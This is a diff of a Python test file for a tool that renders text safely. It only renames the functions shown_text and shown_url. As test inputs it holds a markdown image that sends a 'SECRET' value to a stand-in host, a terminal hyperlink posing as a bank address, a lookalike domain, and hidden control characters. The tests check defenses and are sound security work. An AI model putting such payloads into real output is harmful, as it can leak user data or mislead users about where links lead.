@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dragoman.tools.links import shown_text, shown_url
+from dragoman.tools.links import display_text, display_url
 
 
 @pytest.mark.parametrize(
@@ -27,13 +27,13 @@ from dragoman.tools.links import shown_text, shown_url
     ],
 )
 def test_a_link_shows_its_target(text: str, shown: str) -> None:
-    assert shown_text(text) == shown
+    assert display_text(text) == shown
 
 
 def test_ui03_an_image_is_only_a_link_and_osc_8_is_spelled_out() -> None:
     """UI03: rendering fetches nothing; a clickable link whose text differs from its target shows the target."""
-    assert shown_text("![x](https://evil.example/?d=SECRET)") == "image: x (https://evil.example/?d=SECRET)"
-    shown = shown_text("\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\")
+    assert display_text("![x](https://evil.example/?d=SECRET)") == "image: x (https://evil.example/?d=SECRET)"
+    shown = display_text("\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\")
     assert "\x1b" not in shown
     assert "https://evil.example" in shown
 
@@ -52,21 +52,21 @@ def test_ui03_an_image_is_only_a_link_and_osc_8_is_spelled_out() -> None:
     ],
 )
 def test_a_url_says_where_it_leads(url: str, shown: str) -> None:
-    assert shown_url(url) == shown
+    assert display_url(url) == shown
 
 
 def test_bare_addresses_are_shown_in_ascii_too() -> None:
-    assert shown_text("go to https://аpple.com/login, now") == "go to https://xn--pple-43d.com/login, now"
+    assert display_text("go to https://аpple.com/login, now") == "go to https://xn--pple-43d.com/login, now"
 
 
 @pytest.mark.parametrize("text", ["👩\u200d💻", "❤\ufe0f\u200d🔥", "می\u200cخواهم", "क्\u200dष", "日本語", "שלום"])
 def test_scripts_and_pictures_are_shown_as_they_are(text: str) -> None:
-    assert shown_text(text) == text
+    assert display_text(text) == text
 
 
 @pytest.mark.parametrize("hidden", ["\x1b[2J", "\u202e", "\u200b", "\x07", "a\u200db", "😀\ufe0f\ufe0f\ufe0f", "\U000e0041"])
 def test_what_hides_is_spelled_out(hidden: str) -> None:
-    assert "<U+" in shown_text(f"x{hidden}y")
+    assert "<U+" in display_text(f"x{hidden}y")
 
 
 @given(
@@ -76,11 +76,11 @@ def test_what_hides_is_spelled_out(hidden: str) -> None:
     )
 )
 def test_nothing_that_moves_the_cursor_gets_through(text: str) -> None:
-    shown = shown_text(text)
+    shown = display_text(text)
     assert not {char for char in shown if char not in "\n\t" and (ord(char) < 32 or char in "\x7f\u202a\u202b\u202d\u202e\u2066\u2067")}
 
 
 @given(st.text(st.sampled_from("abc :/.?[]()"), max_size=40))
 def test_no_target_is_lost(text: str) -> None:
-    shown = shown_text(f"[label](https://evil.example/x) {text}")
+    shown = display_text(f"[label](https://evil.example/x) {text}")
     assert "https://evil.example/x" in shown
